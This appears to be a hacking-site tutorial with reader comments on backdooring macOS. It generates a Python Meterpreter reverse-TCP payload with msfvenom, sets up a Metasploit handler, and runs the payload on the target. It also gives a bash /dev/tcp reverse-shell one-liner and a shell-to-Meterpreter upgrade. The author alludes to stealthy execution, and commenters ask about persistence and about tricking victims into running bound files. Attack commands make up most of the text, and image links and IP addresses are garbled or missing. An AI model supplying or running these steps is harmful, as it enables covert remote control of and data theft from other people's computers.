How To: Use Meterpeter on OS X

Use Meterpeter on OS X

Hello all, this is my first submission to null byte! I noticed something a little strange, particularly that whenever Meterpreter is discussed, it is virtually always in the context of Windows. Granted, the Windows Meterpreter is more powerful than the version that can run on OS X (it has several more commands/options), but I think it is still worth noting how to do it. I've even seen some people mistakenly say that Meterpreter can only be run on Windows, which is not true. Meterpreter can easily used to target OS X byusing the Python version of Meterpreter since all Mac OS's ship with Python.

If you are unfamiliar with Meterpreter, it is a backdoor program that allows you to execute a number of different built-in commands on the targeted computer, including spawning a shell, downloading/uploading files to/from the target computer, etc. In thistutorial, I will assume that you have an instance of Kali Linux available to you, since I will be using it as the attacking system in this guide. Kali comes with Metasploit, the software from which you can create an instance of Meterpreter and control it.

Step 1: Generate Python Scriptwith msfvenom

In order to create a Meterpreter instance that will specifically connect back to our attacking computer from OS X, we will use msfvenom to produce a Python-based Meterpreter. In this guide, I will be using the reverse tcp option, which simply means that the Meterpreter instance will connect back to our attacking system, rather then specifically connecting directly to it from the attacking system. Lets say in this example, the Kali system has an IP address of To start, open a new terminal in Kali and type in the following command:

msfvenom -p python/meterpreter/reverse_tcp LHOST= LPORT=6680 >

Hit enter and the file should appear in your home folder. Now we need to set up a way to listen for the Metepreter when it is run on the target system.

Step 2: Using Metasploit's Handler

Open up Metasploit either by browsing Applications > Kali Linux > Top 10 Security Tools > metasploit framework or by simply opening a new terminal and entering the command "msfconsole". Once Metasploit finishes opening, type the following command to start setting up a handler to listen for the Meterpreter:

use multi/handler

Now that we have the handler open, we need to set it up by executing the following commands consecutively in Metasploit:

set PAYLOADpython/meterpreter/reverse_tcp
set LPORT 6680

The first command tells the handler what payload we are using. The second tells it the local host IP (remember to put in your own Kali IP). The third says which port to listen to. It's important that this port matches the one used in generating the Meterpreter, since that is the port it will be spawning to. I semi-arbitrarily chose that port since it's in a port range that isn't used by other common services.

To start up the handler, enter the following command:
exploit -j -z

The command exploit simply tells Metasploit to start the exploit. The -j flag tells it to run in the context of a job and -z simply means to not interact with the session once it becomes active. Running the exploit as a job allows it to run in the background and gives you controlof the process running. Your screen should then look similar to this:

Step 3: Running Meterpreter on the Target OS X System

Now transfer the Python script we generated earlier with msfvenom to the target system. In actual practice, you might want to find some way to stealthily execute this on the target, but for the purposes of this guide I will assume you have a testable version of OS X to try this out on. Once the .py file is put onto the target system running OS X, you can start it up by opening a terminal and typing the following command:


Note: this command assumes you have either set the current directory to the same directory as your file or that it is simply in your home directory.

The script should immediately exit, as the Meterpreter will run as a daemon in the background.

Step 4: Check for a New Meterpreter Session on Kali and Have Fun!

Now go back to your Kali system and Metasploit should have reported a new session opened. To list your sessions, simply enter the command "sessions" in Metasploit. Assuming the new session is 1, enter the following command to start interacting with theMeterpreter:

sessions -i 1

To see a list of commands available on this Meterpreter, simply enter the command "help". Some particularly useful commands you might find are execute, download, upload, shell, and sysinfo. For example, if you wanted to execute a command to make the Mac text-to-speech command say something on the target computer, you would use the following in Meterpreter:

execute -f /bin/usr/say -a "hey there buddy"

Alternatively, you could spawn a shell by entering the command "shell" and then using that to execute such a command.

One benefit of having the Meterpreter is that you can send it to the background and do other things on Metasploit in the mean time. Simply enter the command background and it will take you back toMetasploit. To start interacting with the Meterpreter again, simply do what you did before with the sessions -i 1 command, where 1 is the session ID of the Meterpreter.

Upgrading a Shell Session to Meterpreter

An alternative and quicker way to get the Meterpreter running on the target machine would be to start off with a reverse shell. Like I showed you in Step 2, all you have to do is set up a handler in Metasploit but here you would set the payload to "osx/x64/shell_reverse_tcp" instead. All the other steps in setting the handler would be exactly the same This way, you don't even need to generate a script with msfvenom to get this working. Simply run the handler, then run the following command on your target machine in a terminal:

bash -i >& /dev/tcp/ 0>&1 2>&1

This command simply means "send an interactive bash session to IP address on TCP port 6680."

Going back to Kali, you should see a new session opened in Metasploit. Don't open the session because if you do, it will simply terminate once you are done. Instead, upgrade it to a meterpreter by running the command in metasploit (assuming your new session ID is 1):

sessions -u 1

Now it will do it all for you and it should open a new Meterpreter session leaving your shell open.

Hope you all enjoyed this tutorial and found it useful!

Just updated your iPhone? You'll find new features for Podcasts, News, Books, and TV, as well as important security improvements and fresh wallpapers. Find out what's new and changed on your iPhone with the iOS 17.5 update.


This is fantastic! I'm so glad that somebody wrote a tutorial just about this subject.

+1 - Cameron

Glad you liked it!

thank you, it worked for me but i have question why i cannot access the webcam on my mac ????

I'm not sure what exactly do you mean. Are you asking why the Python Meterpreter doesn'thave a command to directly access the camera like Windows Meterpreter, or are you asking about the msf module post/osx/manage/webcam? If the latter, it is likely due to the fact that some of the post-exploit modules may be version specific to different versions of OS X. Also, some post-exploit modules may act strangely when run on the Meterpreter session and are best run on a regular shell session instead since in Metasploit, the "platform" for the Python Meterpreter is Python, not OS X. I would have to know more specifics to really answer though.

Nice tutorial! I was looking for an OS X script and this should work, thank you.

Why not just plain exploit and wait for it to get a shell.

I don't quite follow... Meterpreter isn't an exploit, it's a payload.Based on the exploit you use, you can get a shell and/or meterpreter on there. It's really up to you and up to the options the exploit gives you on metasploit.


I was just following this procedure it works perfect, could you please advise how we can get the persistent connection to this machine, i tried run persistence -h but it say this script is not availble

and how to run the python payload on victim machine when they double click the binded fileDitto to the persistence thing... you can't do regular meterpreter things because f

However, one thing you could do is basically type "background" into meterpreter which returns you to the msf console. Here you can do a "search type:post" and look for the OS X post-exploits. Since you already have an open session you can use them. I think there is a persistence on that actually puts something in the launch folder on the new machine.

Yeah, it's too bad they don't have that. Maybe I'll take a closer look at the code and see if I can implement it somehow in python and make a pull request eventually if there isn't already one.

However, if you know what you're doing, you could write a script that executes the payload on user login, but this would ultimately be OS-dependent (something that's nice about the Python meterpreter is that it's not OS-dependent...).

What is the best way to "stealthily execute" the python script on a mac?

To be honest, I'm not sure. I'm not too up to date on OS X exploits at the moment, and they're generally far fewer in number than for Windows (you always hear about a new PDF or docx exploit for Windows that allows arbitrary payload execution, but this doesn't seem to be the case so much with OS X as far as I know).

when i run the file on the target system it gives a big long list of python errors, andconcludes with 'socket.error: Errno 51 Network is unreachable'. anyone know what could possibly be going wrong? thanks

Nothing seems to happen after I run the script on the targetsystem. I used shikata ga nai to encode it - is there anything I should dodifferently for an encoded script?

Share Your Thoughts

  • Hot
  • Latest